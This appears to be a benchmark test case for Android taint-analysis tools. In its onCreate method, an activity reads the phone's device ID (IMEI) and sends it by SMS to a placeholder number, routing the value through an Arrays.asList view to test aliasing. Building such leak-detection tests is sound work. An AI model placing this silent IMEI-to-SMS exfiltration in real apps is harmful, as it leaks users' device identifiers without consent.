// about       Arrays.asList is a view of the array: set() writes into the array that is sent.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
    String[] words = {"no", "id"};
    // Writes through to the array.
    List<String> list = Arrays.asList(words);
    list.set(0, phone.getDeviceId());
    SmsManager.getDefault().sendTextMessage("+15550100", null, words[0], null, null);
  }
}
